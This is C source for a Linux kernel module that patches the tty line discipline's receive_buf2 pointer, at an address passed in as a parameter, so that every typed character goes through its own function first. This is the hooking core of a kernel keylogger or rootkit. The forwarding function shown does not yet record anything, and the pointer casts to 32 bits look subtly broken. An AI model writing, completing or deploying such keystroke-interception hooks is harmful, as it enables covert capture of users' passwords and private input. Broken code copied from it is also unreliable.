/* What is typed goes through this module first: the operations of the line discipline lead into it. */
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include "tamper.h"

static unsigned long operations;
module_param(operations, ulong, 0);

static int (*receive)(struct tty_struct *tty, const unsigned char *text, const char *flags, int count);

static int receive_first(struct tty_struct *tty, const unsigned char *text, const char *flags, int count)
{
	return receive(tty, text, flags, count);
}

static int __init begin(void)
{
	if (!operations)
		return -EINVAL;
	receive = ((struct tty_ldisc_ops *)operations)->receive_buf2;
	exchange_word((unsigned long)&((struct tty_ldisc_ops *)operations)->receive_buf2, (u32)receive_first);
	return 0;
}

static void __exit end(void)
{
	exchange_word((unsigned long)&((struct tty_ldisc_ops *)operations)->receive_buf2, (u32)receive);
}

module_init(begin);
module_exit(end);
